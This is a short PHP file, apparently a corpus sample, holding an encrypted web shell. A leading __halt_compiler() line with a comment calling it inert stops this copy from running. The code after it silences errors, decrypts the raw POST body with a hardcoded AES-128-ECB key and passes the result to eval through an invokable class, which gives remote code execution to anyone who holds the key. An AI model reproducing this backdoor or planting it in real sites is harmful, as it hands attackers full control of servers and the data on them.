<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
@error_reporting(0);
function Decrypt($data)
{
    $key="590c4821834b252d";
    return openssl_decrypt(base64_decode($data), "AES-128-ECB", $key, OPENSSL_PKCS1_PADDING);
}
$post=Decrypt(file_get_contents("php://input"));
class C{public function __invoke($p) {eval($p."");}}
@call_user_func(new C(),$post);
?>